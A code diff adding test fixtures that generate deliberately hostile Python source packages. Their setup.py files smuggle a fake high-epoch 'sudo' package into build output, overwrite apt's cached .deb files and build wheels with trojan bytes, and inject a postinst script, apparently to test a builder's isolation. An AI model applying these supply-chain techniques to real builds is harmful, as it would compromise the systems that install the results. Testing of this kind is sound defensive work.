@@ -201,3 +201,141 @@ def _open_tar(archive: Path, fmt: str) -> tarfile.TarFile:
 
 def _mode(rel: str) -> int:
     return 0o755 if rel.endswith(".sh") or rel.startswith("bin/") else 0o644
+
+
+# ----------------------------------------------------------------------------- hostile sdists
+# A setup.py runs as root inside the builder during the build: these do what a hostile one
+# would, with only the builder's own tools.
+
+SMUGGLE_SETUP_PY = '''\
+"""Hostile: build a foreign package during the build and leave it beside the real output."""
+import os, pathlib, subprocess, tempfile
+from setuptools import setup
+
+def smuggle():
+    tree = pathlib.Path(__file__).resolve().parent
+    work = pathlib.Path(tempfile.mkdtemp())
+    if pathlib.Path("/build/rpmbuild/RPMS").is_dir():          # repack's rpm builder
+        spec = work / "sudo.spec"
+        spec.write_text(
+            "Name: sudo\\nVersion: 99.1.0\\nRelease: 1\\nEpoch: 99\\nSummary: sudo\\n"
+            "License: MIT\\nBuildArch: noarch\\n%description\\nsudo\\n"
+            "%post\\necho owned\\n%files\\n")
+        env = {k: v for k, v in os.environ.items() if not k.startswith("RPM")}
+        subprocess.run(["rpmbuild", "-bb", "--nodeps", "--define", f"_topdir {work}", str(spec)],
+                       check=True, env=env)
+        out = pathlib.Path("/build/rpmbuild/RPMS/noarch")
+        out.mkdir(parents=True, exist_ok=True)
+        for rpm in work.glob("RPMS/*/*.rpm"):
+            (out / rpm.name).write_bytes(rpm.read_bytes())
+    else:                                                       # dpkg-buildpackage's ..
+        debian = work / "pkg" / "DEBIAN"
+        debian.mkdir(parents=True)
+        (debian / "control").write_text(
+            "Package: sudo\\nVersion: 99:1.0\\nArchitecture: all\\nMaintainer: x <x@x>\\n"
+            "Description: sudo\\n")
+        (debian / "postinst").write_text("#!/bin/sh\\necho owned\\n")
+        (debian / "postinst").chmod(0o755)
+        subprocess.run(["dpkg-deb", "-b", str(work / "pkg"),
+                        str(tree.parent / "sudo_99.1.0_all.deb")], check=True)
+
+smuggle()
+'''
+
+
+def smuggling_sdist(path: Path, name: str, version: str, nonce: str) -> Path:
+    """An sdist whose setup.py builds a `sudo` package (epoch 99, a postinst/%post) during
+    the build and drops it where the real packages are written: beside the .deb for
+    dpkg-buildpackage, into RPMS/noarch/ for rpmbuild.  `nonce` makes each sdist unique,
+    so that a build cache never answers instead of a build.  Configured in setup.py, with
+    any setuptools: the rpm builders' is older than the 61 a [project] table needs."""
+    pyproject = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
+    setup_py = SMUGGLE_SETUP_PY + (f"setup(name={name!r}, version={version!r}, "
+                                   f"packages=[{module_name(name)!r}], license='MIT')\n")
+    return make_sdist(path, name, version, {"setup.py": setup_py.encode(),
+                                            "pyproject.toml": pyproject.encode(),
+                                            "NONCE": nonce.encode()})
+
+
+POISON_SETUP_PY = '''\
+"""Hostile: overwrite every .deb apt downloaded for the build, keeping each size."""
+import pathlib
+from setuptools import setup
+
+poisoned = 0
+for deb in pathlib.Path("/var/cache/apt/archives").glob("*.deb"):
+    size = deb.stat().st_size
+    deb.write_bytes((b"TROJAN" * (size // 6 + 1))[:size])
+    poisoned += 1
+print(f"POISONED {poisoned} cached packages", flush=True)
+setup()
+'''
+
+
+def poisoning_sdist(path: Path, name: str, version: str, nonce: str) -> Path:
+    """An sdist (setuptools, and hatchling among its build requirements, so that apt
+    brings python3-hatchling into the build) whose setup.py overwrites every .deb in apt's
+    archive cache with a same-size trojan during the build."""
+    pyproject = ('[build-system]\nrequires = ["setuptools>=61", "hatchling"]\n'
+                 'build-backend = "setuptools.build_meta"\n\n[project]\n'
+                 f'name = "{name}"\nversion = "{version}"\ndescription = "poisoner"\n'
+                 f'requires-python = ">=3.8"\n\n[tool.setuptools]\npackages = ["{module_name(name)}"]\n')
+    return make_sdist(path, name, version, {"setup.py": POISON_SETUP_PY.encode(),
+                                            "pyproject.toml": pyproject.encode(),
+                                            "NONCE": nonce.encode()})
+
+
+WHEEL_POISON_SETUP_PY = '''\
+"""Hostile: overwrite every build-tool wheel it can find, keeping each size."""
+import pathlib
+from setuptools import setup
+
+written = refused = 0
+for root in ("/wheels", "/build"):
+    for whl in pathlib.Path(root).rglob("*.whl"):
+        try:
+            whl.write_bytes((b"TROJAN" * (whl.stat().st_size // 6 + 1))[:whl.stat().st_size])
+            written += 1
+        except OSError:
+            refused += 1
+print(f"WHEELS written {written} refused {refused}", flush=True)
+'''
+
+
+def wheel_poisoning_sdist(path: Path, name: str, version: str, nonce: str,
+                          tool: str = "flit_core>=3.9") -> Path:
+    """An sdist that needs `tool` (a build requirement the builder lacks, so it comes from
+    the index as a verified wheel) and whose setup.py overwrites every wheel it can see."""
+    pyproject = ('[build-system]\nrequires = ["setuptools", "' + tool + '"]\n'
+                 'build-backend = "setuptools.build_meta"\n')
+    setup_py = WHEEL_POISON_SETUP_PY + (f"setup(name={name!r}, version={version!r}, "
+                                        f"packages=[{module_name(name)!r}], license='MIT')\n")
+    return make_sdist(path, name, version, {"setup.py": setup_py.encode(),
+                                            "pyproject.toml": pyproject.encode(),
+                                            "NONCE": nonce.encode()})
+
+
+POSTINST_SETUP_PY = '''\
+"""Hostile: add a maintainer script for the package being built (dh_installdeb takes
+debian/<package>.postinst from the tree after the debian tar was made)."""
+import pathlib
+from setuptools import setup
+
+tree = pathlib.Path(__file__).resolve().parent
+for control in (tree / "debian").glob("control"):
+    package = next(ln.split(":", 1)[1].strip() for ln in control.read_text().splitlines()
+                   if ln.startswith("Package:"))
+    (tree / "debian" / f"{package}.postinst").write_text(
+        "#!/bin/sh\\nset -e\\necho owned > /etc/owned\\n#DEBHELPER#\\n")
+    print(f"POSTINST for {package}", flush=True)
+'''
+
+
+def postinst_sdist(path: Path, name: str, version: str, nonce: str) -> Path:
+    """An sdist whose setup.py writes debian/<package>.postinst during the build."""
+    pyproject = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
+    setup_py = POSTINST_SETUP_PY + (f"setup(name={name!r}, version={version!r}, "
+                                    f"packages=[{module_name(name)!r}], license='MIT')\n")
+    return make_sdist(path, name, version, {"setup.py": setup_py.encode(),
+                                            "pyproject.toml": pyproject.encode(),
+                                            "NONCE": nonce.encode()})
